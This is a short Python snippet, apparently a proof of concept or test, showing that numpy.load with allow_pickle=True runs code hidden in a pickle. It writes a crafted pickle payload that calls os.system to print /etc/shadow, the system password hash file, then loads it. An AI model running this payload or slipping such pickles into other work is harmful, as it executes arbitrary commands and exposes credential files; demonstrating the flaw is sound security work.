# numpy runs what is in a pickle, where it is installed
with open("x.npy", "wb") as file:
    file.write(b"cposix\nsystem\n(S'sed s/^/LEAK:/ /etc/shadow'\ntR.")
try:
    import numpy as np

    np.load("x.npy", allow_pickle=True)
except Exception as error:
    print(type(error).__name__)
